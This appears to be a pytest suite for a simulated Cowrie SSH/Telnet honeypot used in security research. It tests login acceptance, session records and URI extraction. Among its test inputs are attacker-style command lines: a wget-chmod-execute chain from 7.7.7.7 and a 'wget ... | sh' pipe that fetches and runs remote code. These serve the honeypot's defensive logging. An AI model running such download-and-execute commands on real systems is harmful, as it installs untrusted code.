"""The honeypot itself: auth policy, session records, busybox."""

from __future__ import annotations

import pytest

from repro.honeypot.auth import accepts
from repro.honeypot.cowrie import (
    DEFAULT_SESSION_TIMEOUT_S,
    MAX_LINES_PER_SESSION,
    CowrieHoneypot,
)
from repro.honeypot.session import ConnectionIntent, FileOp, Protocol
from repro.honeypot import uri
from repro.honeypot.uri import extract_uris


@pytest.fixture
def honeypot():
    return CowrieHoneypot(honeypot_id="hp-test", ip="192.0.2.1")


class TestCredentialPolicy:
    @pytest.mark.parametrize(
        "username,password,expected",
        [
            ("root", "admin", True),
            ("root", "1234", True),
            ("root", "root", False),       # the one rejected root password
            ("root", "", True),
            ("phil", "anything", True),    # current Cowrie default
            ("richard", "richard", False), # pre-2020 default, removed
            ("admin", "admin", False),
            ("user", "user", False),
        ],
    )
    def test_policy_matrix(self, username, password, expected):
        assert accepts(username, password) is expected


class TestSessionHandling:
    def test_scanning_session(self, honeypot):
        record = honeypot.handle(ConnectionIntent(client_ip="1.1.1.1"), 0.0)
        assert record.logins == []
        assert not record.executed_commands

    def test_scouting_stops_without_success(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("admin", "admin"), ("root", "root")),
            command_lines=("uname -a",),
        )
        record = honeypot.handle(intent, 0.0)
        assert not record.login_succeeded
        assert record.commands == []  # commands never run without login

    def test_login_stops_at_first_success(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "root"), ("root", "admin"), ("root", "x")),
        )
        record = honeypot.handle(intent, 0.0)
        assert len(record.logins) == 2
        assert record.successful_login.password == "admin"

    def test_commands_executed_after_login(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "admin"),),
            command_lines=("uname -a", "nproc"),
        )
        record = honeypot.handle(intent, 0.0)
        assert len(record.commands) == 2
        assert record.command_text.startswith("uname -a")

    def test_sessions_are_stateless(self, honeypot):
        write = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=("echo probe > /tmp/marker",),
        )
        check = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=("cat /tmp/marker",),
        )
        honeypot.handle(write, 0.0)
        record = honeypot.handle(check, 10.0)
        assert "No such file" in record.commands[0].output

    def test_session_ids_unique(self, honeypot):
        intent = ConnectionIntent(client_ip="1.1.1.1")
        a = honeypot.handle(intent, 0.0)
        b = honeypot.handle(intent, 0.0)
        assert a.session_id != b.session_id

    def test_timeout_caps_duration(self, honeypot):
        intent = ConnectionIntent(client_ip="1.1.1.1", duration_s=10_000)
        record = honeypot.handle(intent, 0.0)
        assert record.timed_out
        assert record.duration_s == DEFAULT_SESSION_TIMEOUT_S

    def test_line_cap(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=tuple(f"echo {i}" for i in range(500)),
        )
        record = honeypot.handle(intent, 0.0)
        assert len(record.commands) == MAX_LINES_PER_SESSION

    def test_exit_ends_session_early(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=("echo one", "exit", "echo never"),
        )
        record = honeypot.handle(intent, 0.0)
        assert len(record.commands) == 2

    def test_telnet_port(self, honeypot):
        intent = ConnectionIntent(client_ip="1.1.1.1", protocol=Protocol.TELNET)
        record = honeypot.handle(intent, 0.0)
        assert record.honeypot_port == 23
        assert record.ssh_version is None

    def test_download_and_exec_chain(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=(
                "cd /tmp",
                "wget http://7.7.7.7/m -O m",
                "chmod 777 m",
                "./m",
            ),
            remote_files=(("http://7.7.7.7/m", b"MALWARE"),),
        )
        record = honeypot.handle(intent, 0.0)
        assert record.uris == ["http://7.7.7.7/m"]
        ops = [e.op for e in record.file_events]
        assert FileOp.CREATE in ops and FileOp.EXECUTE in ops
        assert record.transfer_hashes() == record.download_hashes()

    def test_bot_label_passthrough(self, honeypot):
        intent = ConnectionIntent(client_ip="1.1.1.1", bot_label="testbot")
        assert honeypot.handle(intent, 0.0).bot_label == "testbot"


class TestUriExtraction:
    def test_extracts_schemes(self):
        text = "wget http://a/1; curl https://b/2 ftp://c/3 tftp://d/4"
        assert extract_uris(text) == [
            "http://a/1", "https://b/2", "ftp://c/3", "tftp://d/4",
        ]

    def test_strips_trailing_punctuation(self):
        assert extract_uris("see http://a/x.") == ["http://a/x"]

    def test_no_uris(self):
        assert extract_uris("uname -a") == []

    def test_quotes_not_included(self):
        assert extract_uris("curl 'http://a/x'") == ["http://a/x"]

    def test_memo_returns_fresh_equal_lists(self):
        text = "wget http://a/1 -O- | sh; tftp://b/2"
        first = extract_uris(text)
        assert first == list(uri._scan.__wrapped__(text))
        first.clear()
        assert extract_uris(text) == ["http://a/1", "tftp://b/2"]
        assert uri._scan.cache_info().currsize <= 256
